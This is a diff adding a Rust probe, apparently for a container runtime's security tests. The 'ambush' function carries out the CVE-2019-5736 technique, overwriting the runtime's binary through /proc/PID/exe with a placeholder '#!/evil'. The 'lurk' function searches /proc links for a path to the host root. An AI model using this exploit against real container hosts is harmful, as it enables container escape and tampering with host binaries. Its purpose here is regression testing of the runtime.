@@ -1,0 +1,100 @@
+//! What a hostile process in a container tries against a runtime that enters it.
+
+use std::fs::{self, File};
+use std::io::{Read, Write};
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::OpenOptionsExt;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use integration::wait;
+use nix::sys::signal::{SigSet, Signal};
+
+/// Processes other than this one and its like: id and what /proc says is their executable.
+fn strangers() -> Vec<(i32, PathBuf)> {
+    let own = std::process::id() as i32;
+    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
+    entries
+        .flatten()
+        .filter_map(|entry| {
+            let pid: i32 = entry.file_name().to_str()?.parse().ok()?;
+            let exe = fs::read_link(entry.path().join("exe")).ok()?;
+            (pid != own && exe != Path::new("/probe")).then_some((pid, exe))
+        })
+        .collect()
+}
+
+/// CVE-2019-5736. Waits for a process that runs the runtime's binary and holds a fifo open for writing, takes a
+/// descriptor of that binary, lets the process end, and writes through the descriptor. Says what came of it.
+pub(crate) fn ambush(fifo: &str) {
+    println!("waiting");
+    let seen = wait::until(Duration::from_millis(1), Duration::from_secs(2), || strangers().into_iter().next());
+    let held = seen.as_ref().map(|(pid, _)| {
+        let mut path_only = fs::OpenOptions::new();
+        path_only.read(true).custom_flags(rustix::fs::OFlags::PATH.bits() as i32);
+        path_only.open(format!("/proc/{pid}/exe"))
+    });
+    // The reader that the other side waits for.
+    let mut log = fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(rustix::fs::OFlags::NONBLOCK.bits() as i32)
+        .open(fifo)
+        .expect("open the fifo");
+    let Some((pid, exe)) = seen else {
+        println!("never seen");
+        return;
+    };
+    wait::exited(pid, Duration::from_secs(10));
+    let _ = log.read(&mut [0_u8; 4096]);
+    match held.expect("it was seen") {
+        Err(e) => println!("refused: {e}"),
+        Ok(fd) => match write_through(&fd) {
+            Err(e) => println!("refused: {}: {e}", exe.display()),
+            Ok(()) => println!("overwritten: {}", exe.display()),
+        },
+    }
+}
+
+fn write_through(fd: &File) -> std::io::Result<()> {
+    let mut file = fs::OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", fd.as_raw_fd()))?;
+    file.write_all(b"#!/evil\n")
+}
+
+/// Looks at every process that comes by until SIGTERM: a way from it to the host's root directory is told at once.
+pub(crate) fn lurk() {
+    let mut term = SigSet::empty();
+    term.add(Signal::SIGTERM);
+    term.thread_block().expect("block SIGTERM");
+    std::thread::spawn(|| {
+        let end = Instant::now() + Duration::from_secs(60);
+        while Instant::now() < end {
+            for entry in fs::read_dir("/proc").expect("/proc").flatten() {
+                let name = entry.file_name();
+                if name.to_str().is_some_and(|n| n.parse::<i32>().is_ok_and(|n| n != 1)) {
+                    peek(&entry.path());
+                }
+            }
+        }
+    });
+    println!("ready");
+    let _ = term.wait();
+}
+
+/// The container's root has no directory of this name, the host's has.
+fn is_host(dir: &Path) -> bool {
+    dir.join("usr").symlink_metadata().is_ok()
+}
+
+fn peek(process: &Path) {
+    for link in ["root", "cwd"] {
+        if is_host(&process.join(link)) {
+            println!("host through {}/{link}", process.display());
+        }
+    }
+    let Ok(fds) = fs::read_dir(process.join("fd")) else { return };
+    for fd in fds.flatten().map(|e| e.path()) {
+        if is_host(&fd) || is_host(&fd.join("../../../..")) {
+            println!("host through {}", fd.display());
+        }
+    }
+}
